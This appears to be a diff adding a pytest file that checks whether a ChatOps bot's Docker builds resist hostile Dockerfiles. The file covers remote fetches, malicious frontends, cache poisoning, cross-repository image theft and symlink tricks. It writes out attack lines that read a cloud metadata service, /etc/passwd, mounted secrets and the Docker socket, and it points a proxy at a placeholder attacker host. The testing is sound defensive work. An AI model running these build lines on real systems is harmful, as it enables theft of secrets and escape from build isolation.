@@ -1,0 +1,415 @@
+"""Attacks on builds, with a real engine and registry: what they fetch, and what they take from each other."""
+
+import asyncio
+import contextlib
+import io
+import tarfile
+import uuid
+from collections.abc import AsyncIterator, Mapping
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+import docker
+import docker.errors
+import pytest
+
+from bot.core.admission.builds import BuildPolicy
+from bot.core.admission.images import ImagePolicy
+from bot.core.naming import LABEL_INSTANCE
+from bot.model.account import RegistryAccount
+from bot.model.delivery import Trigger
+from bot.model.errors import ChatOpsError, TellUser
+from bot.model.forge import RepoPath
+from bot.model.pipeline import BuildConfig, RunnerName
+from bot.model.plan import Build, Plan
+from bot.model.reason import Reason
+from bot.model.run import Origin, Run
+from bot.model.text import Language
+from bot.registry.base import RegistryOptions
+from bot.registry.oci import OciRegistry
+from bot.runners.docker.builder import DockerBuilder
+from bot.runners.docker.credentials import Credentials
+from bot.runners.docker.engine import DockerEngine
+from bot.steps.build import build_target
+from bot.steps.context import StepContext
+from tests.fakes.adapters import FakeAdapters, FakeWorld
+from tests.fakes.log import FakeLog
+from tests.fakes.snapshots import NOW
+from tests.real.fixtures import base_image, engine, instance, registry, sdk
+from tests.real.parts import RegistryProcess, private_registry, tar
+
+__all__ = ["base_image", "engine", "instance", "registry", "sdk"]
+
+pytestmark = pytest.mark.docker
+
+SHOP, VICTIM = RepoPath("team", "shop"), RepoPath("team", "victim")
+SECRET = "what only this machine may read"
+PROJECT = "previews"
+
+
+class Source(FakeAdapters):
+    """The files of one commit; what is read and what is archived may differ, as attributes of git allow."""
+
+    def __init__(self, folder: Path, text: str, files: bytes) -> None:
+        super().__init__(FakeWorld())
+        self._folder = folder
+        self._text = text
+        self._files = files
+
+    async def read(self, repo: RepoPath, sha: str, path: str, limit: int = 1 << 20) -> bytes | None:
+        return self._text.encode()
+
+    @asynccontextmanager
+    async def archive(self, repo: RepoPath, sha: str, folder: str = ".") -> AsyncIterator[Path]:
+        file = self._folder / f"{uuid.uuid4().hex}.tar"
+        file.write_bytes(self._files)
+        yield file
+
+
+@dataclass
+class Listener:
+    """A service of this machine, which counts its visitors."""
+
+    url: str
+    visits: list[bytes] = field(default_factory=list)
+
+
+@dataclass
+class Bench:
+    """Builds commits of several repositories as the bot does; `{base}` in a Dockerfile is a base image."""
+
+    folder: Path
+    builder: DockerBuilder
+    registry: OciRegistry
+    policy: BuildPolicy
+    base: str
+    instance: str
+
+    async def build(
+        self,
+        text: str,
+        *,
+        repo: RepoPath = SHOP,
+        number: int = 1,
+        trusted: bool = True,
+        args: Mapping[str, str] | None = None,
+        files: bytes | None = None,
+    ) -> str:
+        """Build a commit, and return its log; raises what the step raises."""
+        filled = text.replace("{base}", self.base)
+        source = Source(self.folder, filled, files or tar({"Dockerfile": filled}))
+        adapters = replace(
+            FakeWorld().adapters(),
+            source=source,
+            registry=self.registry,
+            builders={RunnerName.DOCKER: self.builder},
+            builds=self.policy,
+            instance=self.instance,
+        )
+        step = Build("ab" * 20, BuildConfig(args=args or {}), trusted)
+        run = Run(1, repo, number, step.sha, Plan((step,)), Origin(Trigger.OPEN, "mei"), Language.EN, NOW)
+        log = FakeLog()
+        self.tag = self.registry.tag_for(repo, number, step.sha)
+        try:
+            await build_target(step, self.tag, StepContext(run, log, adapters))
+        except ChatOpsError as error:
+            error.log = f"{log.text}\n{error.log}"
+            raise
+        return log.text
+
+    async def refused(self, text: str, reason: Reason, **more: object) -> str:
+        """Return the log of a build that must be refused for a reason."""
+        with pytest.raises(TellUser) as caught:
+            await self.build(text, **more)  # type: ignore[arg-type] # as given
+        assert caught.value.reason is reason, (caught.value.facts, caught.value.log)
+        return caught.value.log or ""
+
+
+@pytest.fixture
+async def bench(
+    tmp_path: Path, engine: DockerEngine, registry: RegistryProcess, base_image: str, instance: str
+) -> AsyncIterator[Bench]:
+    policy = BuildPolicy(images=ImagePolicy(registry.host, PROJECT, (f"{registry.host}/bases/*",)))
+    builder = DockerBuilder(
+        engine, instance=instance, network="none", credentials=Credentials(policy=policy.images)
+    )
+    async with OciRegistry(RegistryOptions(registry.host, PROJECT)) as pushed:
+        yield Bench(tmp_path, builder, pushed, policy, base_image, instance)
+
+
+@pytest.fixture
+async def listener() -> AsyncIterator[Listener]:
+    """Provide a service that only this machine can reach."""
+    found = Listener("")
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        found.visits.append(await reader.readline())
+        writer.write(f"HTTP/1.0 200 OK\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET}".encode())
+        writer.close()
+
+    server = await asyncio.start_server(answer, "127.0.0.1", 0)
+    found.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
+    async with server:
+        yield found
+
+
+FETCHES = {
+    "an address": ("FROM scratch\nADD {url}/x /x", Reason.SOURCE_REFUSED),
+    "from ENV": ("FROM scratch\nENV A={url}\nADD $A /x", Reason.SOURCE_REFUSED),
+    "from ARG": ("FROM scratch\nARG A={url}\nADD $A /x", Reason.SOURCE_REFUSED),
+    "from a build argument": ("FROM {base}\nARG A=local\nADD $A /x", Reason.SOURCE_UNKNOWN),
+    "JSON": ('FROM scratch\nADD ["\\u0068ttp://{host}/x", "/x"]', Reason.SOURCE_REFUSED),
+    "continued": ("FROM scratch\nadd \\\n# no\n  --chown=0 \\\n  {url}/x /x", Reason.SOURCE_REFUSED),
+    "ONBUILD in the same file": (
+        "FROM scratch AS a\nONBUILD ADD {url}/x /x\nFROM a",
+        Reason.SOURCE_REFUSED,
+    ),
+    "a here-document that is none": ("FROM {base}\nRUN <<E true\nADD {url}/x /x\nE\n", Reason.SOURCE_REFUSED),
+    "git": ("FROM scratch\nADD git://{host}/a.git /x", Reason.SOURCE_REFUSED),
+    "a frontend": ("# syntax={host}/evil:1\nFROM scratch", Reason.FRONTEND_REFUSED),
+    "a frontend in JSON": ('{"syntax": "{host}/evil:1"}', Reason.FRONTEND_REFUSED),
+    "a frontend after slashes": ("//syntax={host}/evil:1\nFROM scratch", Reason.FRONTEND_REFUSED),
+    "a base image": ("FROM {host}/evil:1", Reason.IMAGE_REFUSED),
+    "a mount": ("FROM {base}\nRUN --mount=from={host}/evil:1,target=/x ls /x", Reason.IMAGE_REFUSED),
+}
+
+
+@pytest.mark.parametrize(("text", "reason"), FETCHES.values(), ids=FETCHES)
+@pytest.mark.parametrize("trusted", [True, False], ids=["of a member", "of an approved stranger"])
+async def test_the_engine_fetches_nothing_for_a_dockerfile(
+    bench: Bench,
+    listener: Listener,
+    text: str,
+    reason: Reason,
+    trusted: bool,  # noqa: FBT001 - a parameter
+) -> None:
+    host = listener.url.removeprefix("http://")
+    filled = text.replace("{url}", listener.url).replace("{host}", host)
+    await bench.refused(filled, reason, args={"A": listener.url}, trusted=trusted)
+    assert listener.visits == []
+
+
+async def test_a_frontend_in_a_build_argument_is_not_asked(bench: Bench, listener: Listener) -> None:
+    image = f"{listener.url.removeprefix('http://')}/evil:1"
+    await bench.refused("FROM scratch", Reason.FRONTEND_REFUSED, args={"BUILDKIT_SYNTAX": image})
+    assert listener.visits == []
+
+
+async def test_the_trigger_of_a_base_image_does_not_read_this_machine(
+    bench: Bench, listener: Listener, sdk: docker.DockerClient
+) -> None:
+    base = f"chatops-test-trigger:{bench.instance}"
+    text = f"FROM {bench.base}\nLABEL {LABEL_INSTANCE}={bench.instance}\nONBUILD ADD {listener.url}/x /x\n"
+    content = tar({"Dockerfile": text})
+    await asyncio.to_thread(_build_outside, sdk, content, base)
+    log = await bench.refused(f"FROM {base}\nRUN sleep 2; cat /x\n", Reason.SOURCE_REFUSED)
+    assert SECRET not in log
+
+
+def _build_outside(sdk: docker.DockerClient, content: bytes, tag: str) -> None:
+    sdk.images.build(fileobj=io.BytesIO(content), custom_context=True, tag=tag, rm=True)
+
+
+MOUNT = "--mount=type=cache,{mount}target=/cache"
+FILL = "FROM {{base}}\nENV NEW={new}\nRUN " + MOUNT + " echo POISONED > /cache/wheel; echo {new}"
+LINE = "RUN " + MOUNT + " cat /cache/wheel 2>/dev/null || echo clean"
+VICTIM_TEXT = "FROM {{base}}\nENV ONLY={new}\n" + LINE
+
+
+@pytest.mark.parametrize("mount", ["id=pip-{new},", ""], ids=["a name", "the target"])
+@pytest.mark.parametrize(
+    ("attacker", "victim"),
+    [
+        ({"repo": SHOP}, {"repo": VICTIM}),
+        ({"repo": SHOP, "trusted": False}, {"repo": SHOP}),
+        ({"repo": SHOP}, {"repo": SHOP, "trusted": False}),
+        ({"trusted": False, "number": 1}, {"trusted": False, "number": 2}),
+        ({"repo": SHOP, "args": {"BUILDKIT_CACHE_MOUNT_NS": "{space}/team/victim"}}, {"repo": VICTIM}),
+    ],
+    ids=["repository", "stranger writes", "stranger reads", "two strangers", "a namespace of its choice"],
+)
+async def test_a_cache_mount_is_not_shared_with(
+    bench: Bench, mount: str, attacker: dict[str, object], victim: dict[str, object]
+) -> None:
+    new = uuid.uuid4().hex
+    mount = mount.format(new=new).replace("id=,", "") or f"uid={int(new[:4], 16)},"
+    chosen = {"BUILDKIT_CACHE_MOUNT_NS": f"{bench.instance}/team/victim"}
+    args = {"args": chosen} if "args" in attacker else {}
+    fill, read = (text.format(mount=mount, new=new) for text in (FILL, VICTIM_TEXT))
+    await bench.build(fill, **{**attacker, **args})  # type: ignore[arg-type] # as given
+    log = await bench.build(read, **victim)  # type: ignore[arg-type] # as given
+    assert "POISONED" not in log
+    assert "clean" in log
+
+
+async def test_a_cache_mount_is_kept_for_the_repository_itself(bench: Bench) -> None:
+    new = uuid.uuid4().hex
+    fill, read = (text.format(mount=f"id={new},", new=new) for text in (FILL, VICTIM_TEXT))
+    await bench.build(fill, number=1)
+    assert "POISONED" in await bench.build(read, number=2)
+
+
+async def test_an_id_cannot_name_the_cache_of_another_repository(bench: Bench) -> None:
+    new = uuid.uuid4().hex
+    inner = f"id={bench.instance}/team/victim/{new},"
+    await bench.build(FILL.format(mount=inner, new=new))
+    log = await bench.build(VICTIM_TEXT.format(mount=f"id={new},", new=new), repo=VICTIM)
+    assert "clean" in log
+
+
+async def test_a_poisoned_layer_does_not_reach_another_repository(bench: Bench) -> None:
+    new = uuid.uuid4().hex
+    line = LINE.format(mount=f"id={new},", new=new)
+    ordinary = f"FROM {{base}}\nENV SAME={new}\n{line}\nRUN true"
+    await bench.build(FILL.format(mount=f"id={new},", new=new))
+    assert "POISONED" in await bench.build(ordinary)
+    log = await bench.build(ordinary, repo=VICTIM)
+    assert "clean" in log
+    assert "POISONED" not in log
+    assert "CACHED" not in log.partition("cat /cache/wheel")[2]
+
+
+async def test_a_layer_that_a_proxy_filled_does_not_reach_another_repository(bench: Bench) -> None:
+    text = f'FROM {{base}}\nENV SAME={uuid.uuid4().hex}\nRUN echo "got ${{http_proxy:-nothing}}"\n'
+    poisoned = await bench.build(text, args={"http_proxy": "http://evil.example.net"})
+    assert "got http://evil.example.net" in poisoned
+    log = await bench.build(text, repo=VICTIM)
+    assert "got nothing" in log
+    again = await bench.build(text, args={"http_proxy": "http://evil.example.net"})
+    assert "CACHED" in again, "the repository itself has a cache"
+
+
+@pytest.fixture
+async def private(bench: Bench, sdk: docker.DockerClient) -> AsyncIterator[str]:
+    """Push the victim's preview, whose source is a secret, and provide its name."""
+    await bench.build(f"FROM {{base}}\nRUN echo '{SECRET}' > /source\n", repo=VICTIM)
+    name = bench.tag
+    await bench.builder.push(name, FakeLog())
+    yield name
+    with contextlib.suppress(docker.errors.ImageNotFound):
+        await asyncio.to_thread(sdk.images.remove, name, force=True)
+
+
+@pytest.mark.parametrize("local", [True, False], ids=["in the engine", "in the registry"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM {image}\nRUN cat /source",
+        "FROM {base}\nCOPY --from={image} /source /\nRUN cat /source",
+        "FROM {base}\nRUN --mount=type=bind,from={image},target=/x cat /x/source",
+        "ARG I={image}\nFROM ${I}\nRUN cat /source",
+        "FROM {alias}\nRUN cat /source",
+        "FROM {digest}\nRUN cat /source",
+    ],
+    ids=["FROM", "COPY", "a mount", "ARG", "another name of the registry", "a digest"],
+)
+async def test_the_private_preview_of_another_repository_cannot_be_used(
+    bench: Bench,
+    private: str,
+    sdk: docker.DockerClient,
+    text: str,
+    local: bool,  # noqa: FBT001 - a parameter
+) -> None:
+    digest = (await asyncio.to_thread(sdk.images.get, private)).attrs["RepoDigests"][0]
+    if not local:
+        await asyncio.to_thread(sdk.images.remove, private, force=True)
+    names = {"image": private, "alias": private.replace("127.0.0.1", "localhost"), "digest": digest}
+    for name, value in names.items():
+        text = text.replace(f"{{{name}}}", value)
+    assert SECRET not in await bench.refused(text, Reason.IMAGE_REFUSED)
+    own = f"FROM {private}\nENV NEW={uuid.uuid4().hex}\nRUN cat /source"
+    assert SECRET in await bench.build(own, repo=VICTIM, number=2)
+
+
+async def test_a_base_that_the_operator_lists_is_used(bench: Bench, sdk: docker.DockerClient) -> None:
+    base = f"{bench.policy.images.host}/bases/python:{bench.instance}"
+    await bench.build("FROM {base}\nRUN echo a base > /base\n")
+    await asyncio.to_thread((await asyncio.to_thread(sdk.images.get, bench.tag)).tag, base)
+    await bench.builder.push(base, FakeLog())
+    await asyncio.to_thread(sdk.images.remove, base)
+    assert "a base" in await bench.build(f"FROM {base}\nRUN cat /base\n", repo=VICTIM, trusted=False)
+
+
+async def test_the_bots_account_pulls_no_image_that_is_not_listed(
+    bench: Bench, engine: DockerEngine, sdk: docker.DockerClient
+) -> None:
+    process = private_registry(bench.folder)
+    account = RegistryAccount(process.host, "bot", "right")
+    bench.builder = DockerBuilder(
+        engine,
+        instance=bench.instance,
+        network="none",
+        credentials=Credentials(account, policy=bench.policy.images),
+    )
+    # Elsewhere than on this machine, the name of such a registry is one that anybody may use.
+    bench.policy = replace(bench.policy, images=ImagePolicy(bases=("*",)))
+    try:
+        name = f"{process.host}/secret/app:{bench.instance}"
+        await bench.build(f"FROM {{base}}\nRUN echo '{SECRET}' > /source\n")
+        await asyncio.to_thread((await asyncio.to_thread(sdk.images.get, bench.tag)).tag, name)
+        await bench.builder.push(name, FakeLog())
+        await asyncio.to_thread(sdk.images.remove, name)
+        assert SECRET not in await bench.refused(f"FROM {name}\nRUN cat /source", Reason.BASE_IMAGE_MISSING)
+    finally:
+        process.stop()
+
+
+def linked(text: str) -> bytes:
+    """Return the tar of a commit whose Dockerfile is a link."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
+        link = tarfile.TarInfo("Dockerfile")
+        link.type, link.linkname = tarfile.SYMTYPE, "evil"
+        archive.addfile(link)
+        evil = tarfile.TarInfo("evil")
+        evil.size = len(text)
+        archive.addfile(evil, io.BytesIO(text.encode()))
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("form", ["a link", "recoded", "missing"])
+async def test_the_dockerfile_that_was_checked_is_built(bench: Bench, listener: Listener, form: str) -> None:
+    evil = f"FROM {bench.base}\nADD {listener.url}/x /x\nRUN cat /x\n"
+    files = {"a link": linked(evil), "recoded": tar({"Dockerfile": evil}), "missing": tar({"x": evil})}[form]
+    log = await bench.build(f"FROM {{base}}\nRUN echo checked {uuid.uuid4().hex}\n", files=files)
+    assert "checked" in log
+    assert listener.visits == []
+
+
+HELD = {
+    "the network of the host": "RUN --network=host wget -qO- {url}/x",
+    "no security": "RUN --security=insecure cat /dev/mem",
+    "a secret": "RUN --mount=type=secret,id=token,required=true cat /run/secrets/token",
+    "an SSH agent": "RUN --mount=type=ssh,required=true ls $SSH_AUTH_SOCK",
+    "a link out of the context": "COPY link /x\nRUN grep root: /x",
+    "a path out of the context": "COPY ../../../../etc/hostname /x\nRUN false",
+    "the engine's socket": "RUN ls /var/run/docker.sock",
+    "loopback of this machine": "RUN wget -T 2 -qO- {url}/x",
+    "a metadata service": "RUN wget -T 2 -qO- http://169.254.169.254/",
+}
+
+
+@pytest.mark.parametrize("line", HELD.values(), ids=HELD)
+async def test_a_build_does_not_get(bench: Bench, listener: Listener, line: str) -> None:
+    text = f"FROM {{base}}\nENV NEW={uuid.uuid4().hex}\n{line.replace('{url}', listener.url)}\n"
+    out = io.BytesIO(tar({"Dockerfile": text.replace("{base}", bench.base)}))
+    with tarfile.open(fileobj=out, mode="a", format=tarfile.GNU_FORMAT) as archive:
+        link = tarfile.TarInfo("link")
+        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+        archive.addfile(link)
+    with pytest.raises(TellUser) as caught:
+        await bench.build(text, files=out.getvalue())
+    assert SECRET not in (caught.value.log or "")
+    assert listener.visits == []
+
+
+@pytest.mark.parametrize(
+    ("output", "shown"),
+    [(r"\033[31mred\033[0m\033]0;title\007", "red"), (r"x\010\010y", "y")],
+    ids=["colours and titles", "backspaces"],
+)
+async def test_the_output_of_a_build_is_shown_as_text(bench: Bench, output: str, shown: str) -> None:
+    log = await bench.build(f"FROM {{base}}\nENV NEW={uuid.uuid4().hex}\nRUN printf 'is {output}\\n'\n")
+    assert not {"\x1b", "\x07", "\x08"} & set(log)
+    assert shown in log
